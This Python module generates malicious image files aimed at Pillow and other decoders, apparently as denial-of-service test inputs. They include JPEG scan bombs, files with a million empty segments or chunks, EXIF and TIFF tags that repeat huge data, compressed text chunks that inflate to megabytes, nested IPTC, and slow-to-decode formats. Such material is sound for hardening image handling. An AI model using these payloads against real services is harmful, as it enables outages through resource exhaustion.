"""Pictures that cost far more than their size: what strangers could send. Each function returns a file's bytes."""

from __future__ import annotations

import gzip
import struct
import zlib
from collections.abc import Callable
from io import BytesIO

import numpy as np
from PIL import Image


def scan_bomb(side: int, bands: int = 63, levels: int = 14) -> bytes:
    """A valid grey progressive JPEG, all zero, in 1 + bands * levels scans: each takes a decoder through all blocks."""
    blocks = (-(-side // 8)) ** 2
    out = b"\xff\xd8" + _segment(0xDB, b"\0" + b"\1" * 64)
    out += _segment(0xC2, struct.pack(">BHHB", 8, side, side, 1) + b"\1\x11\0")
    out += _table(0x00, [0]) + _table(0x10, [0xE0, 0x00, 0xD0])
    # One bit, 0, for the first coefficient of each block.
    out += _segment(0xDA, b"\1\1\0\0\0\0") + bytes(blocks // 8) + b"\x7f" * (blocks % 8 > 0)
    empty = _runs(blocks)
    for band in range(1, bands + 1):
        for level in range(levels):
            low = levels - 1 - level
            out += _segment(0xDA, b"\1\1\0" + bytes([band, band, ((low + 1) << 4 if level else 0) | low])) + empty
    return out + b"\xff\xd9"


def hidden_scans(side: int) -> bytes:
    """A scan bomb with a marker that has no segment before its scans, and what looks like the length of one."""
    bomb = scan_bomb(side)
    start = bomb.index(b"\xff\xda")
    return bomb[:start] + b"\xff\x01" + bomb[start:]


def many_segments(count: int = 1_000_000) -> bytes:
    """A JPEG with that many empty comments before its picture, which Pillow reads one by one."""
    plain = _saved(Image.new("RGB", (64, 64)), "JPEG")
    return plain[:2] + b"\xff\xfe\0\2" * count + plain[2:]


def many_scans(count: int, side: int = 2000) -> bytes:
    """A sequential JPEG of three components whose first is scanned that many times, without any data."""
    plain = _saved(Image.new("RGB", (side, side)), "JPEG", subsampling=0)
    start = plain.index(b"\xff\xda")
    scan = b"\xff\xda\0\x08\1\1\0\0\x3f\0"
    return plain[:start] + scan * count + b"\xff\xd9"


def exif_bomb(entries: int = 5000) -> bytes:
    """A JPEG whose EXIF names the same 64 KB that many times: Pillow copies them each time."""
    plain = _saved(Image.new("RGB", (64, 64)), "JPEG")
    directory = struct.pack("<H", entries) + b"".join(
        struct.pack("<HHII", 0x1000 + i, 7, 64_000, 8) for i in range(entries)
    )
    exif = b"Exif\0\0II*\0\x08\0\0\0" + directory
    exif = exif[:65_500].ljust(65_500, b"\0")
    return plain[:2] + _segment(0xE1, exif) + plain[2:]


def tile_of_a_pixel(side: int) -> bytes:
    """A TIFF of one pixel, in a tile of side * side that holds nothing."""
    tags = [
        (256, 4, 1, 1), (257, 4, 1, 1), (258, 3, 1, 8), (259, 3, 1, 5), (262, 3, 1, 1), (277, 3, 1, 1),
        (322, 4, 1, side), (323, 4, 1, side), (324, 4, 1, 150), (325, 4, 1, 1),
    ]  # fmt: skip
    entries = b"".join(struct.pack("<HHII", *tag) for tag in tags)
    return b"II*\0\x08\0\0\0" + struct.pack("<H", len(tags)) + entries + bytes(4) + b"\0" * 17


def strips_of_a_pixel(rows: int) -> bytes:
    """A TIFF of one pixel that says it comes in strips of that many rows."""
    tags = [
        (256, 4, 1, 1), (257, 4, 1, 1), (258, 3, 1, 8), (259, 3, 1, 5), (262, 3, 1, 1), (273, 4, 1, 140),
        (277, 3, 1, 1), (278, 4, 1, rows), (279, 4, 1, 1),
    ]  # fmt: skip
    entries = b"".join(struct.pack("<HHII", *tag) for tag in tags)
    return b"II*\0\x08\0\0\0" + struct.pack("<H", len(tags)) + entries + bytes(4) + b"\0" * 30


def tiff_tags(entries: int = 150, nbytes: int = 4_000_000) -> bytes:
    """A TIFF of one pixel whose tags each name most of the file."""
    base = tile_of_a_pixel(16)
    (count,) = struct.unpack_from("<H", base, 8)
    tags = base[10 : 10 + 12 * count]
    size = 8 + 2 + 12 * (count + entries) + 4
    for i in range(entries):
        tags += struct.pack("<HHII", 40_000 + i, 1, nbytes, size)
    return base[:8] + struct.pack("<H", count + entries) + tags + bytes(4) + bytes(nbytes)


def many_chunks(count: int = 1_000_000) -> bytes:
    """A PNG with that many empty chunks, which Pillow reads one by one."""
    plain = _saved(Image.new("RGB", (64, 64)), "PNG")
    return plain[:33] + _chunk(b"prIv", b"") * count + plain[33:]


def inflating_chunks(count: int = 60) -> bytes:
    """A PNG with that many texts of a megabyte each, a kilobyte compressed."""
    plain = _saved(Image.new("RGB", (64, 64)), "PNG")
    text = b"a\0\0" + zlib.compress(bytes(2**20 - 1), 9)
    profile = b"p\0\0" + zlib.compress(bytes(2**20 - 1), 9)
    return plain[:33] + _chunk(b"zTXt", text) * count + _chunk(b"iCCP", profile) * count + plain[33:]


def dds(side: int) -> bytes:
    """Bit masks of one byte a pixel, which Pillow applies in Python."""
    header = struct.pack("<7I44x", 124, 0x100F, side, side, side, 0, 0)
    header += struct.pack("<8I", 32, 0x40, 0, 8, 0xE0, 0x1C, 0x03, 0) + struct.pack("<5I", 0x1000, 0, 0, 0, 0)
    return b"DDS " + header + _noise(side * side)


def qoi(side: int) -> bytes:
    """A byte a pixel, each looked up in Python."""
    return b"qoif" + struct.pack(">IIBB", side, side, 3, 0) + b"\xfe\1\2\3" + bytes(side * side - 1) + bytes(7) + b"\1"


def qoi_runs(side: int) -> bytes:
    """A byte for 62 pixels."""
    runs = -(-side * side // 62)
    return b"qoif" + struct.pack(">IIBB", side, side, 3, 0) + b"\xfe\1\2\3" + b"\xfd" * runs + bytes(7) + b"\1"


def bmp_runs(side: int, length: int = 1) -> bytes:
    """A BMP of run lengths, each of that many pixels."""
    runs = bytes([length, 7]) * (side * side // length)
    start = 54 + 1024
    header = struct.pack("<IiiHHIIiiII", 40, side, side, 1, 8, 1, len(runs), 0, 0, 256, 0)
    return b"BM" + struct.pack("<IHHI", start + len(runs), 0, 0, start) + header + bytes(1024) + runs


def plain_colours(side: int) -> bytes:
    """PPM in decimal digits."""
    return b"P3\n%d %d\n255\n" % (side, side) + b"1 " * (side * side * 3)


def plain_bits(side: int) -> bytes:
    """PBM in digits."""
    return b"P1\n%d %d\n" % (side, side) + b"1" * (side * side)


def odd_maximum(side: int) -> bytes:
    """PPM whose largest value is no power of two, scaled in Python."""
    return b"P6\n%d %d\n200\n" % (side, side) + bytes(side * side * 3)


def xpm(side: int) -> bytes:
    """A picture as C source, of which Pillow takes two characters a pixel in Python."""
    row = b'"' + b"aa" * side + b'",\n'
    head = b'/* XPM */\nstatic char *a[] = {\n"%d %d 1 2",\n"aa c #ff0000",\n' % (side, side)
    return head + row * side + b"};\n"


def fits_gzip(side: int) -> bytes:
    """A FITS table compressed by gzip, which Python inflates."""
    cards = (
        ["SIMPLE  = T", "BITPIX  = 8", "NAXIS   = 0", "END"],
        [
            "XTENSION= 'BINTABLE'", "BITPIX  = 8", "NAXIS   = 2", "NAXIS1  = 8", f"NAXIS2  = {side}", "ZIMAGE  = T",
            "ZBITPIX = 8", "ZNAXIS  = 2", f"ZNAXIS1 = {side}", f"ZNAXIS2 = {side}", "ZCMPTYPE= 'GZIP_1  '", "END",
        ],
    )  # fmt: skip
    heads = ["".join(card.ljust(80) for card in part).ljust(2880).encode() for part in cards]
    return heads[0] + heads[1] + bytes(8 * side) + gzip.compress(bytes(side * side * 4), 9)


def msp(side: int) -> bytes:
    """Microsoft Paint's run lengths, which Pillow expands in Python."""
    width = side // 8 * 8
    row = b"\0\xff\0" * (width // 8 // 255) + b"\0" + bytes([width // 8 % 255 or 1]) + b"\0"
    header = struct.pack("<4s6H", b"LinS", width, side, 1, 1, 1, 1) + bytes(8)
    checksum = 0
    for (word,) in struct.iter_unpack("<H", header):
        checksum ^= word
    header += struct.pack("<H", checksum)
    return header.ljust(32, b"\0") + struct.pack("<H", len(row)) * side + row * side


def blp(side: int) -> bytes:
    """A texture of Warcraft, decoded in Python."""
    image = Image.fromarray(np.frombuffer(_noise(side * side), np.uint8).reshape(side, side)).quantize(256)
    return _saved(image, "BLP")


def sgi_deep(side: int) -> bytes:
    """SGI of 16 bits."""
    header = struct.pack(">HBBHHHHII4x80sI404x", 474, 0, 2, 3, side, side, 3, 0, 65535, b"", 0)
    return header + bytes(side * side * 6)


def jpeg2000(side: int) -> bytes:
    """Noise, of which JPEG 2000 takes longest."""
    return _saved(Image.fromarray(np.frombuffer(_noise(side * side * 3), np.uint8).reshape(side, side, 3)), "JPEG2000")


def nested(depth: int = 200) -> bytes:
    """IPTC in IPTC in IPTC …: Pillow opens what it finds inside as any format."""
    data = _saved(Image.new("L", (8, 8)), "PNG")
    for _ in range(depth):
        data = iptc(data)
    return data


def iptc(picture: bytes) -> bytes:
    """A file of IPTC that holds another picture."""
    head = b"\x1c\x03\x14\0\x02\0\x08\x1c\x03\x1e\0\x02\0\x08\x1c\x03\x3c\0\x02\1\0\x1c\x03\x78\0\x02\0\x05"
    length = struct.pack(">I", len(picture))
    return head + b"\x1c\x08\x0a\x84\0" + length + picture


SLOW: dict[str, Callable[[int], bytes]] = {
    "dds": dds,
    "qoi": qoi,
    "qoi-runs": qoi_runs,
    "bmp-runs": bmp_runs,
    "ppm-plain": plain_colours,
    "pbm-plain": plain_bits,
    "ppm-200": odd_maximum,
    "xpm": xpm,
    "fits-gzip": fits_gzip,
    "msp": msp,
    "blp": blp,
    "sgi-16": sgi_deep,
    "jpeg2000": jpeg2000,
}
"""By name, each of a picture of side * side pixels."""


def _segment(marker: int, content: bytes) -> bytes:
    return bytes([0xFF, marker]) + struct.pack(">H", len(content) + 2) + content


def _table(kind: int, symbols: list[int]) -> bytes:
    """A Huffman table: one symbol of one bit, or all of two bits."""
    counts = bytes([1]) if len(symbols) == 1 else bytes([0, len(symbols)])
    return _segment(0xC4, bytes([kind]) + counts.ljust(16, b"\0") + bytes(symbols))


def _runs(blocks: int) -> bytes:
    """That many blocks without coefficients: symbols of two bits, 0xE0 and 0xD0, each with the rest of a run."""
    bits = []
    while blocks:
        run = min(blocks, 32_767)
        if run >= 16_384:
            bits.append(f"00{run - 16_384:014b}")
        elif run >= 8192:
            bits.append(f"10{run - 8192:013b}")
        else:
            bits.append("01")
            run = 1
        blocks -= run
    text = "".join(bits)
    text += "1" * (-len(text) % 8)
    return int(text, 2).to_bytes(len(text) // 8, "big").replace(b"\xff", b"\xff\0")


def _chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def _noise(count: int) -> bytes:
    return np.random.default_rng(0).integers(0, 256, count, np.uint8).tobytes()


def _saved(image: Image.Image, format: str, **options: object) -> bytes:
    buffer = BytesIO()
    image.save(buffer, format, **options)
    return buffer.getvalue()
